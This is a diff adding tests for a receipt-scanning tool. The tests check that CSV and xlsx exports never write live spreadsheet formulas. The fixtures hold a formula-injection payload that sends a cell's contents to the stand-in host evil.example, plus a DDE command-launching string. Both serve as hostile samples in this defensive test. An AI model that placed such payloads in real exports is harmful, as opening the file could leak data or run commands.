@@ -131,3 +131,60 @@ def test_card_number_masking_keeps_only_the_last_four(printed: str, stored: str)
     from icr.text.parsers import mask_card_numbers
 
     assert mask_card_numbers(printed) == stored
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_exports_and_reports_never_write_a_live_formula(tmp_path: Path) -> None:
+    # A company name read as a formula was written raw to CSV and stored as a live formula in xlsx.
+    import csv
+    import io
+
+    pytest.importorskip("openpyxl", reason="the reports extra is not installed")
+    from openpyxl import load_workbook
+
+    db = f"sqlite:///{tmp_path / 'f.db'}"
+    images = tmp_path / "images"
+    images.mkdir()
+    import cv2
+    import numpy as np
+
+    cv2.imwrite(str(images / "r.png"), np.full((64, 96), 255, np.uint8))
+    lines = [HOSTILE, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1 -2+3", "DATE 04/07/2013", "DISCOUNT -7.43", "TOTAL 12.59"]
+    config = {
+        "stages": {"image_corrector": "none", "recognizer": "fake", "text_corrector": "fake"},
+        "recognizer": {"fake_lines": lines},
+    }
+    _ingest(images, db, config, tmp_path)
+
+    def cells(text: str) -> list[str]:
+        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+    export = CliRunner().invoke(main, ["export", "--db", db, "--format", "csv"])
+    report_csv = tmp_path / "receipts.csv"
+    res = CliRunner().invoke(main, ["report", "receipts", "--db", db, "-o", str(report_csv)])
+    assert export.exit_code == 0 and res.exit_code == 0, export.output + res.output
+    for written in (cells(export.output), cells(report_csv.read_text(encoding="utf-8"))):
+        assert f"'{HOSTILE}" in written  # readable, with the quote spreadsheets hide
+        assert not [c for c in written if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and "+" in c)]
+    assert "12.59" in cells(report_csv.read_text(encoding="utf-8"))
+
+    xlsx = tmp_path / "receipts.xlsx"
+    res = CliRunner().invoke(main, ["report", "receipts", "--db", db, "-o", str(xlsx)])
+    assert res.exit_code == 0, res.output
+    sheet = load_workbook(xlsx).active
+    assert sheet is not None
+    values = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [c.value for c in values if c.data_type == "f"]
+    assert HOSTILE in [c.value for c in values if c.data_type == "s"]
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [("=1+1", "'=1+1"), ("+1", "+1"), ("-7.43", "-7.43"), ("-2+3", "'-2+3"), ("@A1", "'@A1"), ("\t=1", "'\t=1")],
+)
+def test_a_cell_that_could_run_is_quoted(value: str, cell: str) -> None:
+    from icr.cells import inert
+
+    assert inert(value) == cell
